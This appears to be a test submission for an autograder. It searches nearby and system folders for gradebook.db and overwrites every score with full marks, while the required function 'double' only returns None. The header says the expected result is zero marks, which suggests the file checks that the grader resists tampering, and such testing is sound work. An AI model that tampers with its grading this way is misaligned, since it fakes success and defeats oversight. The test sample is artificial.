# tries: finds the gradebook by its name and gives itself marks
# marks: double 0
# %%
import os
import sqlite3

for folder in ("..", "../..", "../../..", "/tmp", "/course", os.environ.get("PWD", "/")):
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        print("BRE" + "ACH", path)
        sqlite3.connect(path).execute("UPDATE grade SET auto_score = 2, manual_score = 2").connection.commit()
# %% double
def double(x):
    return None
